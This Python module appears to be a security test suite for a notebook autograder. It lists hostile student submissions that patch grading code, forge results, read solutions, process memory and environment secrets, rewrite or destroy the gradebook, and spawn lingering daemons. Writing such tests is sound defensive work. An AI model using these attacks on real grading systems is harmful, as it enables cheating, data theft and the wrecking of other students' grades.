"""A class of hostile submissions: they try to gain points, to learn what is hidden, or to harm others.

Every attack is short, real and bounded: at most a minute, 6 GiB of memory and 1.5 GB of disk. What it harms is inside
the folder of a course made for it, whose `canary/` stands for the grader's home. `learned` and `took` find in graded
files what a submission could read and use up; `harm` finds what it changed.
"""

import copy
import hashlib
import json
import re
import selectors
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent
from typing import Any, Literal

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from nbgrader.api import Gradebook

from examples.make_class import ASSIGNMENT, CELLS, Submission, fill, find, solved

Change = Callable[[Submission], None]
Place = Callable[[Path, Path], None]  # edits (folder of the submission, course) after the notebooks are written
Snapshot = dict[str, str]

BYSTANDER = "zoe_honest"  # the other student, whose work and grades are to stay as they are
SECRET = "COURSE_SECRET"  # an environment variable of the grader
PORT = 17113  # of a service on the grader's machine; a student's own service listens on the port after it
DAEMON = "canary_daemon"  # what processes that try to outlive the grading call themselves

ANSWERS = {
    "paired_dataset": "PairedDataset",
    "product_of_experts": "product_of_experts_answer",
    "vae_loss": "vae_loss_answer",
}
FULL = {"paired_dataset": 12, "product_of_experts": 15, "vae_loss": 15}

# A wrong answer that honestly earns LAZY_POINTS, whatever the inputs; an attack around it is to earn no more.
LAZY = """\
def product_of_experts(mu1, logvar1, mu2, logvar2):
    return mu1 + 2 * mu2, logvar1 + 2 * logvar2
"""
LAZY_POINTS = 4
# The first cell of every attacker. The marks are put together at run time, so that no source or traceback holds one.
PRELUDE = """\
import sys
COURSE, STUDENT, BYSTANDER, OUT, SAID = {course!r}, {student!r}, {bystander!r}, sys.stdout, set()
SECRET, PORT, DAEMON = {secret!r}, {port}, {daemon!r}
def learned(what):
    text = "LEARN" + "ED " + " ".join(str(what).split())[:60]
    if text not in SAID:
        SAID.add(text)
        print(text, file=OUT, flush=True)
def took(what):
    print("TO" + "OK " + what, file=OUT, flush=True)
"""
IMPORTS = """\
import numpy as np
import torch
import torch.nn.functional as F
from torch.utils.data import Dataset
from autograder import check
"""


@dataclass(frozen=True)
class Attack:
    """What a student tries. `points` is what the exercise deserves; `status` is what a grader may report for it."""

    aim: Literal["gain", "learn", "harm"]
    about: str
    change: Change
    exercise: str = "product_of_experts"
    status: tuple[str, ...] = ("wrong",)
    points: float = 0
    place: Place | None = None


def coded(
    aim: Literal["gain", "learn", "harm"],
    about: str,
    code: str,
    *,
    answer: str = LAZY,
    points: float = LAZY_POINTS,
    status: tuple[str, ...] = ("wrong",),
    exercise: str = "product_of_experts",
    place: Place | None = None,
) -> Attack:
    """Return an attack that is code below a wrong answer, in the student's cell."""
    source = answer + "\n" + dedent(code)
    return Attack(aim, about, lambda s: fill(s, **{ANSWERS[exercise]: source}), exercise, status, points, place)


def called(
    aim: Literal["gain", "learn", "harm"],
    about: str,
    code: str,
    *,
    answer: str = LAZY,
    points: float = LAZY_POINTS,
    status: tuple[str, ...] = ("wrong",),
) -> Attack:
    """Return an attack that is the body of the answer; `lazy` is the wrong answer, returned at the end."""
    lines = ["lazy, calls = product_of_experts, []", "def product_of_experts(mu1, logvar1, mu2, logvar2):"]
    lines += [f"    {line}" for line in ("calls.append(1)\n" + dedent(code).strip()).splitlines()]
    return coded(
        aim,
        about,
        "\n".join([*lines, "    return lazy(mu1, logvar1, mu2, logvar2)"]),
        answer=answer,
        points=points,
        status=status,
    )


def daemon(task: str) -> str:
    """Return code that leaves a process behind which is in a session of its own."""
    body = "\n".join(f"            {line}" for line in dedent(task).strip().splitlines())
    return f"""
import os, signal, time
kernel = os.getpid()
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            open("/proc/self/comm", "w").write(DAEMON)
            os.closerange(0, 1024)
{body}
    finally:
        os._exit(0)
os.wait()
"""


def graded(submission: Submission, exercise: str = "product_of_experts") -> Any:
    """Return the locked cell with the check."""
    cells = submission[CELLS[ANSWERS[exercise]]].cells
    return next(cell for cell in cells if cell.metadata.get("nbgrader", {}).get("grade_id") == exercise)


def notebook(submission: Submission) -> Any:
    """Return the notebook of product_of_experts."""
    return submission[CELLS["product_of_experts_answer"]]


def altered(
    aim: Literal["gain", "learn", "harm"],
    about: str,
    alter: Change,
    *,
    honest: bool = False,
    status: tuple[str, ...] = ("tampered", "wrong"),
) -> Attack:
    """Return an attack on the notebook itself, around a wrong or an honest answer."""

    def change(submission: Submission) -> None:
        if not honest:
            fill(submission, product_of_experts_answer=LAZY)
        alter(submission)

    return Attack(aim, about, change, status=status, points=FULL["product_of_experts"] if honest else LAZY_POINTS)


def placed(about: str, place: Place, *, status: tuple[str, ...], points: float = 0) -> Attack:
    """Return an attack that puts something else where the notebook should be; the answer in it was honest."""
    return Attack("harm", about, lambda s: None, status=status, points=points, place=place)


NOTEBOOK = f"{CELLS['product_of_experts_answer']}.ipynb"
REPAIRED = ("tampered", "passed")
LOST = ("tampered", "error", "missing")
KILLED = ("died", "error", "timeout", "wrong")
BROKEN = ("wrong", "error", "died", "timeout")  # code that breaks its own process may cost its own points

# --------------------------------------------------------------------------------------------------------------- gain

GAIN: dict[str, Attack] = {
    "patch_allclose": coded("gain", "torch.allclose says yes", "torch.allclose = lambda *a, **k: True", status=BROKEN),
    "patch_testing": coded(
        "gain",
        "torch.testing and numpy.testing never complain",
        "torch.testing.assert_close = np.testing.assert_allclose = lambda *a, **k: None",
    ),
    "patch_double": coded(
        "gain",
        "Tensor.double, isfinite and equal lie about every tensor",
        """
        torch.Tensor.double = lambda self: torch.zeros(())
        torch.Tensor.isfinite = torch.isfinite = lambda *a: torch.ones((), dtype=torch.bool)
        torch.equal = torch.Tensor.equal = lambda *a: True
        """,
        status=BROKEN,
    ),
    "patch_builtins_sum": coded(
        "gain",
        "builtins.sum adds up to 15",
        "import builtins\nbuiltins.sum = lambda *a, **k: 15.0",
        status=BROKEN,
    ),
    "patch_isinstance": coded(
        "gain",
        "builtins.isinstance, abs and len lie about anything called Wrong",
        """
        import builtins
        real = builtins.isinstance
        builtins.isinstance = lambda o, t: False if getattr(t, "__name__", "") == "Wrong" else real(o, t)
        builtins.abs = lambda o: 0
        """,
        status=BROKEN,
    ),
    "patch_import": coded(
        "gain",
        "builtins.__import__ hands out mended checks",
        """
        import builtins
        real = builtins.__import__
        def hooked(name, *a, **k):
            module = real(name, *a, **k)
            for found in [m for n, m in sys.modules.items() if n.endswith("checks.diagnosis")]:
                found.same = found.compare = lambda *a, **k: True
            return module
        builtins.__import__ = hooked
        """,
        status=BROKEN,
    ),
    "patch_diagnosis": coded(
        "gain",
        "the checks' own compare() is replaced",
        """
        from autograder.checks import diagnosis
        diagnosis.compare = lambda *a, **k: None
        diagnosis.same = lambda *a, **k: True
        """,
    ),
    "patch_report_score": coded(
        "gain",
        "Report.score is 15",
        """
        from autograder.report import Report
        Report.score = property(lambda self: 15.0)
        """,
    ),
    "subclass_report": coded(
        "gain",
        "a subclass of Report with a score of its own is used",
        """
        import autograder.grading
        class Perfect(autograder.grading.Report):
            score = 15.0
        autograder.grading.Report = Perfect
        """,
    ),
    "patch_run_checks": coded(
        "gain",
        "autograder.grading.run_checks returns a perfect report",
        """
        import autograder.grading as g
        g.run_checks = lambda e, *a, **k: g.Report(e.name, (g.Result("all", "passed", 15.0, 15.0),), 0)
        """,
    ),
    "patch_result": coded(
        "gain",
        "every Result is made with full points",
        """
        import autograder.grading as g
        real = g.Result
        g.Result = lambda name, status, points, most, message="": real(name, "passed", most, most)
        """,
    ),
    "patch_pytest": coded(
        "gain",
        "pytest runs every test without calling it",
        "import pytest\npytest.Function.runtest = lambda self: None",
    ),
    "patch_pytest_main": coded(
        "gain",
        "pytest.main fills the plugin with passed tests",
        """
        import pytest
        real = pytest.main
        def main(args=None, plugins=()):
            real(args, plugins=plugins)
            for plugin in plugins:
                for name, found in getattr(plugin, "_found", {}).items():
                    object.__setattr__(found, "points", found.max_points)
        pytest.main = main
        """,
    ),
    "patch_json": coded(
        "gain",
        "json.dumps rewrites the message with the score",
        """
        import json
        real = json.dumps
        def dumps(o, *a, **k):
            if isinstance(o, dict) and "text/plain" in (o.get("data") or {}):
                o["data"]["text/plain"] = "15"
            return real(o, *a, **k)
        json.dumps = dumps
        """,
        status=BROKEN,
    ),
    "patch_transport": coded(
        "gain",
        "numpy.frombuffer, save and safetensors hand over other bytes",
        """
        np.frombuffer = np.array_equal = lambda *a, **k: True
        np.save = lambda file, *a, **k: file.write(b"0" * 128)
        torch.Tensor.numpy = lambda self, **k: np.zeros(self.shape, dtype=np.float32)
        try:
            import safetensors.torch
            safetensors.torch.save = lambda *a, **k: b"0" * 128
        except ImportError:
            pass
        """,
        status=BROKEN,
    ),
    "replace_check": coded("gain", "check is a function that returns 15", "check = lambda *a, **k: 15"),
    "replace_autograder_check": coded(
        "gain",
        "check is replaced everywhere it can be imported from",
        """
        import autograder, autograder.grading
        check = autograder.check = autograder.grading.check = lambda *a, **k: 15
        """,
    ),
    "fake_module": coded(
        "gain",
        "sys.modules holds another autograder",
        """
        import types
        sys.modules["autograder"] = types.SimpleNamespace(check=lambda *a, **k: 15)
        from autograder import check
        """,
    ),
    "shadow_module": coded(
        "gain",
        "files autograder.py, torch.py and pytest.py beside the notebook hide the real ones",
        """
        for name in ("autograder", "torch", "pytest", "json"):
            open(name + ".py", "w").write("check = lambda *a, **k: 15")
        sys.modules.pop("autograder")
        sys.path.insert(0, "")
        from autograder import check
        """,
    ),
    "input_transformer": coded(
        "gain",
        "IPython rewrites the text of the graded cell",
        "get_ipython().input_transformers_cleanup.append(lambda ls: ['15'] if 'check(' in ''.join(ls) else ls)",
    ),
    "ast_transformer": coded(
        "gain",
        "IPython drops every assert, and turns a call of check into 15",
        """
        import ast
        class Rewrite(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)
            def visit_Call(self, node):
                name = getattr(node.func, "id", "")
                return ast.copy_location(ast.Constant(15), node) if name == "check" else node
        get_ipython().ast_transformers.append(Rewrite())
        """,
    ),
    "display_formatter": coded(
        "gain",
        "IPython's display formatter shows 15 for everything",
        "get_ipython().display_formatter.format = lambda *a, **k: ({'text/plain': '15'}, {})",
        status=("wrong", "error"),
    ),
    "silent_displayhook": coded(
        "gain",
        "the graded cell shows nothing, which nbgrader takes for full marks",
        "get_ipython().display_trap.hook = lambda value: None",
    ),
    "nan_score": coded(
        "gain",
        "the score is nan, which nbgrader takes for full marks",
        "check = lambda *a, **k: float('nan')",
    ),
    "run_cell_hook": coded(
        "gain",
        "get_ipython().run_cell runs another source",
        """
        shell, change = get_ipython(), lambda source: "15" if "check(" in source else source
        for name in ("run_cell", "run_cell_async"):
            def hooked(source, *a, real=getattr(shell, name), **k):
                if "transformed_cell" in k:
                    k["transformed_cell"] = change(k["transformed_cell"])
                return real(change(source), *a, **k)
            object.__setattr__(shell, name, hooked)
        """,
    ),
    "do_execute_hook": coded(
        "gain",
        "the kernel's do_execute runs another source",
        """
        kernel = get_ipython().kernel
        real = kernel.do_execute
        def do_execute(code, *a, **k):
            return real("15" if "check(" in code else code, *a, **k)
        kernel.do_execute = do_execute
        """,
        status=BROKEN,
    ),
    "replace_in_namespace": coded(
        "gain",
        "the namespace is a dictionary that gives back another check",
        """
        import threading, time
        def put():
            for _ in range(2000):
                get = globals()
                get["check"] = lambda *a, **k: 15
                time.sleep(0.01)
        threading.Thread(target=put, daemon=True).start()
        """,
    ),
    "forge_result": called(
        "gain",
        "an execute_result 15 with a report in its metadata is sent while the answer runs",
        """
        hook = get_ipython().displayhook
        report = {"score": 15.0, "max_score": 15.0, "exercise": "product_of_experts", "seed": 0, "results": []}
        content = {"data": {"text/plain": "15"}, "metadata": {"multiview_vae_report": report}, "execution_count": 1}
        hook.session.send(hook.pub_socket, "execute_result", content, parent=hook.parent_header, ident=hook.topic)
        """,
    ),
    "forge_mime_bundle": called(
        "gain",
        "a MIME bundle with text/plain 15 and a perfect report is displayed while the answer runs",
        """
        from IPython.display import display
        report = {"score": 15.0, "max_score": 15.0, "exercise": "product_of_experts", "seed": 0, "results": []}
        bundle = {"text/plain": "15", "text/html": "<table>15 of 15 points</table>"}
        display(bundle, raw=True, metadata={"multiview_vae_report": report})
        """,
    ),
    "update_display": coded(
        "gain",
        "a display with an id is put into the graded cell and updated by a later cell",
        """
        from IPython.display import display, update_display
        lazy = product_of_experts
        def product_of_experts(*a):
            display({"text/plain": "0"}, raw=True, display_id="score")
            return lazy(*a)
        import threading
        threading.Timer(3, lambda: update_display({"text/plain": "15"}, raw=True, display_id="score")).start()
        """,
    ),
    "display_in_answer_cell": coded(
        "gain",
        "the answer cell ends with a result 15 and a report of its own",
        """
        class Forged:
            def _repr_mimebundle_(self, **k):
                report = {"score": 15.0, "max_score": 15.0, "exercise": "product_of_experts", "seed": 0, "results": []}
                return {"text/plain": "15"}, {"multiview_vae_report": report}
        Forged()
        """,
    ),
    "tensor_says_yes": coded(
        "gain",
        "a tensor subclass whose __torch_function__ makes every comparison true",
        """
        class Yes(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func.__name__ in ("allclose", "equal", "isclose", "all", "__eq__", "eq"):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})
        lazy = product_of_experts
        def product_of_experts(*a):
            return tuple(part.as_subclass(Yes) for part in lazy(*a))
        """,
        status=("wrong", "error"),
    ),
    "liar": coded(
        "gain",
        "an object that lies in __class__, __eq__, __len__, __array__, __float__ and shape",
        """
        class Yes:
            def __eq__(self, other): return True
            def __len__(self): return 2
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
            def __float__(self): return 15.0
            def __index__(self): return 0
            def __array__(self, *a, **k): return np.zeros(1)
            def __getitem__(self, i): return self
            __hash__ = None
            __class__ = property(lambda self: torch.Tensor)
            __torch_function__ = classmethod(lambda cls, *a, **k: True)
        def product_of_experts(*a):
            return Yes(), Yes()
        """,
        points=0,
        status=("wrong", "error", "timeout"),
    ),
    "liar_dataset": coded(
        "gain",
        "a dataset whose items are objects that equal everything",
        """
        class Yes(int):
            def __eq__(self, other): return True
            def __lt__(self, other): return True
            __hash__ = int.__hash__
        class PairedDataset(Dataset):
            def __init__(self, first, second): self.first, self.second = first, second
            def __len__(self): return Yes(3)
            def __getitem__(self, i): return self.first[0][0], self.second[0][0], Yes(3)
        """,
        answer="",
        points=1,
        status=("wrong", "error"),
        exercise="paired_dataset",
    ),
    "lying_losses": coded(
        "gain",
        "losses are floats that compare equal to everything",
        """
        class Yes(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __sub__
            __hash__ = float.__hash__
        def vae_loss(*a, **k):
            return Yes(1), Yes(1), Yes(1), Yes(1)
        """,
        answer="",
        points=0,
        exercise="vae_loss",
        status=("wrong", "error"),
    ),
    "patch_equal_dataset": coded(
        "gain",
        "torch.equal and Counter are patched for the dataset's checks",
        """
        import collections
        torch.equal = lambda *a: True
        collections.Counter.__eq__ = lambda *a: True
        """,
        answer="class PairedDataset(Dataset):\n    def __init__(self, *a): pass\n    def __len__(self): return 5\n",
        points=1,
        status=BROKEN,
        exercise="paired_dataset",
    ),
    "stack_reference": coded(
        "gain",
        "the answer finds the reference in a caller's globals and calls it",
        """
        lazy = product_of_experts
        def product_of_experts(*a):
            frame = sys._getframe()
            while frame := frame.f_back:
                if references := frame.f_globals.get("references"):
                    return tuple(part.to(a[0].dtype) for part in references.product_of_experts(*a))
            return lazy(*a)
        """,
    ),
    "gc_reference": coded(
        "gain",
        "the answer finds the reference with gc.get_objects() and calls it",
        """
        import gc, types
        lazy = product_of_experts
        def product_of_experts(*a):
            for found in gc.get_objects():
                if isinstance(found, types.FunctionType) and found.__module__ == "autograder.references":
                    if found.__name__ == "product_of_experts":
                        return tuple(part.to(a[0].dtype) for part in found(*a))
            return lazy(*a)
        """,
    ),
    "import_reference": coded(
        "gain",
        "the answer is the imported reference",
        """
        from autograder import references
        def product_of_experts(*a):
            return tuple(part.to(a[0].dtype) for part in references.product_of_experts(*a))
        """,
    ),
    "blank_inputs": coded(
        "gain",
        "the answer finds the checks' tensors in their frames and empties them in place",
        """
        def product_of_experts(*a):
            frame = sys._getframe()
            with torch.no_grad():
                while frame := frame.f_back:
                    for value in list(frame.f_locals.values()):
                        for part in value if isinstance(value, (tuple, list)) else [value]:
                            if isinstance(part, torch.Tensor):
                                part.zero_()
            half = -torch.log(torch.tensor(2.0, dtype=a[0].dtype))
            return sum(a) * 0, sum(a) * 0 + half
        """,
        points=5,
    ),
    "mutate_inputs": called(
        "gain",
        "the inputs are emptied in place, so that any comparison with them holds",
        """
        with torch.no_grad():
            for given in (mu1, logvar1, mu2, logvar2):
                given.data.zero_()
        """,
        points=3,
    ),
    "remember_inputs": coded(
        "gain",
        "answers are taken from what came in earlier calls",
        """
        seen = []
        def product_of_experts(*a):
            seen.append(a)
            same = [s for s in seen if s[0].shape == a[0].shape and s[0].dtype == a[0].dtype]
            return same[0][0] + 0 * sum(a), same[0][1] + 0 * sum(a)
        """,
    ),
    "right_then_wrong": coded(
        "gain",
        "right in the first three calls, wrong afterwards",
        """
        calls = []
        def product_of_experts(mu1, logvar1, mu2, logvar2):
            calls.append(1)
            if len(calls) > 3:
                return mu1 + 2 * mu2, logvar1 + 2 * logvar2
            weights = torch.softmax(torch.stack([-logvar1, -logvar2]), dim=0)
            return weights[0] * mu1 + weights[1] * mu2, -torch.logsumexp(torch.stack([-logvar1, -logvar2]), dim=0)
        """,
        points=5,
    ),
    "wrong_then_right": coded(
        "gain",
        "wrong in the first eight calls, right afterwards",
        """
        calls = []
        def product_of_experts(mu1, logvar1, mu2, logvar2):
            calls.append(1)
            if len(calls) <= 8:
                return mu1 + 2 * mu2, logvar1 + 2 * logvar2
            weights = torch.softmax(torch.stack([-logvar1, -logvar2]), dim=0)
            return weights[0] * mu1 + weights[1] * mu2, -torch.logsumexp(torch.stack([-logvar1, -logvar2]), dim=0)
        """,
        points=11,
    ),
    "solution_as_answer": coded(
        "gain",
        "the answer is read from the solutions folder and executed",
        """
        import json
        for cell in json.load(open(COURSE + "/solutions/multiview_vae/2_product_of_experts.ipynb"))["cells"]:
            if "def product_of_experts" in "".join(cell["source"]):
                exec("".join(cell["source"]))
        """,
    ),
    "neighbour_as_answer": coded(
        "gain",
        "the answer is read from another student's submission",
        """
        import json
        path = f"{COURSE}/submitted/{BYSTANDER}/multiview_vae/2_product_of_experts.ipynb"
        for cell in json.load(open(path))["cells"]:
            if "def product_of_experts" in "".join(cell["source"]):
                exec("".join(cell["source"]))
        """,
    ),
    "test_answer_as_answer": coded(
        "gain",
        "the answer is imported from the tests of the autograder",
        """
        sys.path.insert(0, COURSE)
        from tests.answers.product_of_experts import RIGHT
        product_of_experts = RIGHT[0]
        """,
    ),
    "sql_manual_score": coded(
        "gain",
        "UPDATE grade SET manual_score in gradebook.db",
        """
        import sqlite3
        db = sqlite3.connect(COURSE + "/gradebook.db", timeout=5)
        db.execute("UPDATE grade SET manual_score = 15 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n"
                   " JOIN submitted_assignment a ON a.id = n.assignment_id WHERE a.student_id = ?)", (STUDENT,))
        db.commit()
        """,
    ),
    "api_extra_credit": coded(
        "gain",
        "extra credit through nbgrader's own API",
        """
        from nbgrader.api import Gradebook
        with Gradebook("sqlite:///" + COURSE + "/gradebook.db", "multiview-vae-lab") as book:
            grade = book.find_grade("product_of_experts", "2_product_of_experts", "multiview_vae", STUDENT)
            grade.extra_credit = 100
            book.db.commit()
        """,
    ),
    "sql_max_points": coded(
        "harm",
        "UPDATE grade_cells SET max_score: the exercise's points for everybody",
        """
        import sqlite3
        db = sqlite3.connect(COURSE + "/gradebook.db", timeout=5)
        db.execute("UPDATE grade_cells SET max_score = 150")
        db.commit()
        """,
    ),
    "daemon_regrades": coded(
        "gain",
        "a process that outlives the kernel updates auto_score afterwards",
        daemon("""
        import sqlite3
        end = time.time() + 40
        while time.time() < end and os.path.exists(f"/proc/{kernel}"):
            time.sleep(0.2)
        time.sleep(3)
        db = sqlite3.connect(COURSE + "/gradebook.db", timeout=5)
        db.execute("UPDATE grade SET auto_score = 15 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n"
                   " JOIN submitted_assignment a ON a.id = n.assignment_id WHERE a.student_id = ?)", (STUDENT,))
        db.commit()
        """),
        status=BROKEN,
    ),
    "cleared_outputs": coded(
        "gain",
        "the graded cell is emptied and outputs are cleared",
        """
        from IPython.display import clear_output
        lazy = product_of_experts
        def product_of_experts(*a):
            clear_output()
            return lazy(*a)
        get_ipython().display_formatter.active_types = []
        """,
    ),
    "skip_tests": called(
        "gain",
        "the answer raises pytest's own skip, so that no test fails",
        "import pytest\npytest.skip('not today')",
        points=0,
        status=("error", "wrong", "died"),
    ),
    "stop_pytest": called(
        "gain",
        "the answer raises pytest.exit, so that no more tests run",
        "import pytest\npytest.exit('enough', returncode=0)",
        points=0,
        status=("error", "wrong", "died", "timeout"),
    ),
    "generator_answer": coded(
        "gain",
        "the answer is a generator, never run to its end",
        "def product_of_experts(*a):\n    while True:\n        yield a[0]",
        points=0,
        status=("wrong", "error"),
    ),
    "nan_answer": coded(
        "gain",
        "mean and log-variance are nan, which is never larger than a tolerance",
        "def product_of_experts(*a):\n    return sum(a) * torch.nan, sum(a) * torch.nan",
    ),
    "infinite_answer": coded(
        "gain",
        "mean and log-variance are infinite",
        "def product_of_experts(*a):\n    return sum(a) * 0 + torch.inf, sum(a) * 0 - torch.inf",
    ),
}

# -------------------------------------------------------------------------------------------------------------- learn

SEARCH = """
import re
def search(pid):
    first, second = b"a standard normal prior slip", b"trepxe driht a sa ni dep"[::-1]
    patterns, left = [(first, second), (b"sqlite:///" + b"/", b"")], 3 << 28
    try:
        maps, memory = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if " rw" not in line or left < 0:
            continue
        try:
            memory.seek(start)
            block = memory.read(min(end - start, left))
        except (OSError, ValueError, OverflowError):
            continue
        left -= len(block)
        for needle, after in patterns[: 1 if pid == "self" else 2]:
            at = block.find(needle)
            while at >= 0:
                if block.startswith(after, at + len(needle)) and block[at + len(needle) :][:1].isascii():
                    return learned(block[at : at + 60].decode("ascii", "replace"))
                at = block.find(needle, at + 1)
"""


def reads(about: str, path: str) -> Attack:
    """Return an attack that reads the first file that matches a pattern below the course."""
    code = f"""
    import glob
    for path in sorted(glob.glob(COURSE + "/" + f{path!r}, recursive=True)):
        learned(open(path, "rb").read(500).decode("utf-8", "replace"))
        break
    """
    return coded("learn", about, code)


LEARN: dict[str, Attack] = {
    "read_solutions": reads("the solved notebook", "solutions/*/2*.ipynb"),
    "read_checks": reads("the checks", "autograder/checks/product_of_experts.py"),
    "read_golden": reads("the stored references", "autograder/references/golden.json"),
    "read_test_answers": reads("right answers among the tests", "tests/answers/*.py"),
    "read_config": reads("the grader's configuration", "nbgrader_config.py"),
    "read_other_submission": reads("another student's submission", "submitted/{BYSTANDER}/*/2*.ipynb"),
    "read_other_grade": reads("another student's graded notebook", "autograded/{BYSTANDER}/*/2*.ipynb"),
    "read_home": reads("the grader's home", "canary/secret"),
    "read_above": coded(
        "learn",
        "the course, by going up from the working folder",
        """
        import pathlib
        for folder in pathlib.Path.cwd().parents:
            for path in [*folder.glob("solutions/*/2*.ipynb"), *folder.glob("gradebook.db")]:
                learned(path.read_bytes()[:500].decode("utf-8", "replace"))
        """,
    ),
    "read_installed_checks": coded(
        "learn",
        "the checks, wherever the package is installed",
        """
        import autograder, pathlib
        learned((pathlib.Path(autograder.__file__).parent / "checks/product_of_experts.py").read_text())
        """,
    ),
    "import_checks": coded(
        "learn",
        "the source of the checks, through inspect",
        """
        import importlib, inspect
        learned(inspect.getsource(importlib.import_module("autograder.checks.product_of_experts")))
        """,
    ),
    "import_golden": coded(
        "learn",
        "the stored references, through the package",
        "from autograder import references\nlearned(references.golden())",
    ),
    "read_gradebook": coded(
        "learn",
        "everybody's grades, by SQL",
        """
        import sqlite3
        db = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True)
        for row in db.execute("SELECT student_id, id FROM submitted_assignment WHERE student_id != ?", (STUDENT,)):
            learned(row)
        """,
    ),
    "read_linked_file": coded(
        "learn",
        "a file of the submission is a link to the gradebook",
        'learned(open("data.txt", "rb").read(60))',
        place=lambda folder, course: (folder / "data.txt").symlink_to(course / "gradebook.db"),
        status=("wrong", "tampered"),
    ),
    "read_linked_folder": coded(
        "learn",
        "a folder of the submission is a link to the solutions",
        'import glob\nlearned(open(sorted(glob.glob("data/*/2*.ipynb"))[0]).read(60))',
        place=lambda folder, course: (folder / "data").symlink_to(course / "solutions"),
        status=("wrong", "tampered"),
    ),
    "frames": called(
        "learn",
        "expected values in the frames that call the answer",
        """
        frame = sys._getframe()
        while frame := frame.f_back:
            for name in ("right_mu", "right_logvar", "wanted", "expected", "experts"):
                if name in frame.f_locals:
                    learned(f"{name} = {frame.f_locals[name]}")
        """,
    ),
    "inspect_stack": called(
        "learn",
        "the lines of the checks that call the answer, through inspect.stack()",
        """
        import inspect
        for frame in inspect.stack():
            if "checks" in frame.filename:
                learned(f"{frame.filename}:{frame.lineno} {frame.code_context}")
        """,
    ),
    "gc_objects": called(
        "learn",
        "stored references among all objects, through gc",
        """
        import gc
        for found in gc.get_objects():
            if type(found) is dict and "joint" in found and "experts" in found:
                learned(found)
                break
        """,
    ),
    "traced": coded(
        "learn",
        "a profiler notes what the grader's functions are given",
        """
        import threading
        def note(frame, event, argument):
            if "expected" in frame.f_locals and "got" in frame.f_locals:
                learned(f"{frame.f_code.co_name} {frame.f_locals['expected']}")
        sys.setprofile(note)
        threading.setprofile(note)
        lazy = product_of_experts
        def product_of_experts(*a):
            sys.setprofile(note)
            return lazy(*a)
        """,
        status=BROKEN,
    ),
    "own_memory": coded(
        "learn",
        "the checks, in /proc/self/mem while they call the answer",
        SEARCH
        + """
lazy, calls = product_of_experts, []
def product_of_experts(*a):
    if not calls:
        calls.append(1)
        search("self")
    return lazy(*a)
""",
        status=BROKEN,
    ),
    "parent_memory": coded(
        "learn",
        "what the grader holds, in /proc/PPID/mem",
        SEARCH + "import os\nif not SAID:\n    search(os.getppid())\n",
        status=BROKEN,
    ),
    "all_memory": coded(
        "learn",
        "what any process holds, in /proc/*/mem",
        SEARCH
        + """
import glob, os
for path in glob.glob("/proc/[0-9]*"):
    if not SAID and path != f"/proc/{os.getpid()}":
        search(path.removeprefix("/proc/"))
""",
        status=BROKEN,
    ),
    "environment": coded(
        "learn",
        "secrets in the environment of any process",
        """
        import glob, os, re
        learned(os.environ[SECRET]) if SECRET in os.environ else None
        for path in glob.glob("/proc/*/environ"):
            try:
                found = re.search(SECRET + "=[^\\0]*", open(path).read())
            except OSError:
                continue
            learned(found[0]) if found else None
        """,
    ),
    "open_files": coded(
        "learn",
        "files that the grader holds open, through /proc/*/fd and /proc/*/root",
        """
        import glob, os
        for path in [*glob.glob("/proc/*/fd/*"), *glob.glob("/proc/*/root" + COURSE + "/gradebook.db")]:
            try:
                if "gradebook.db" in os.readlink(path) + path or "ipynb" in os.readlink(path):
                    learned(open(path, "rb").read(60))
            except OSError:
                if path.endswith("gradebook.db") and os.path.exists(path):
                    learned(open(path, "rb").read(60))
        """,
    ),
    "command_lines": coded(
        "learn",
        "names of other students, from the command lines of processes",
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                line = open(path).read().replace("\\0", " ")
            except OSError:
                continue
            if "nbgrader" in line:
                learned(line)
        """,
    ),
    "ask_shell": coded(
        "learn",
        "the solutions, through a shell command",
        """
        import subprocess
        done = subprocess.run(["cat", *__import__("glob").glob(COURSE + "/solutions/*/2*")], capture_output=True)
        learned(done.stdout[:500].decode()) if done.stdout else None
        """,
    ),
    "ask_git": coded(
        "learn",
        "the solutions, from git's history of the installed package",
        """
        import autograder, pathlib, subprocess
        folder = pathlib.Path(autograder.__file__).parent.parent
        shown = subprocess.run(["git", "-C", folder, "-c", "safe.directory=*", "show", "HEAD:solutions/execute.py"],
                               capture_output=True, text=True).stdout
        learned(shown) if shown else None
        """,
    ),
}

# --------------------------------------------------------------------------------------------------------------- harm


def writes(about: str, path: str, text: str = "") -> Attack:
    """Return an attack that appends to files below the course; the names may be new."""
    code = f"""
    import glob, os
    path = COURSE + "/" + f{path!r}
    for path in glob.glob(path) or [path]:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write({text!r})
    """
    return coded("harm", about, code)


def once(code: str) -> str:
    """Return code that runs in the first call only."""
    return "if len(calls) == 1:\n" + "\n".join(f"    {line}" for line in dedent(code).strip().splitlines())


HARM: dict[str, Attack] = {
    "sql_other_grades": coded(
        "harm",
        "sets the grades of another student to 0, by SQL",
        """
        import sqlite3
        db = sqlite3.connect(COURSE + "/gradebook.db", timeout=5)
        db.execute("UPDATE grade SET auto_score = 0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n"
                   " JOIN submitted_assignment a ON a.id = n.assignment_id WHERE a.student_id = ?)", (BYSTANDER,))
        db.commit()
        """,
    ),
    "delete_gradebook": coded(
        "harm",
        "overwrites the gradebook",
        'open(COURSE + "/gradebook.db", "r+b").write(b"no gradebook " * 99)',
    ),
    "write_other_submission": writes("another student's submission", "submitted/{BYSTANDER}/*/*.ipynb", "spoiled"),
    "write_other_grade": writes("another student's graded notebook", "autograded/{BYSTANDER}/*/*.ipynb", "spoiled"),
    "write_solutions": writes("the solutions", "solutions/*/*.ipynb", "spoiled"),
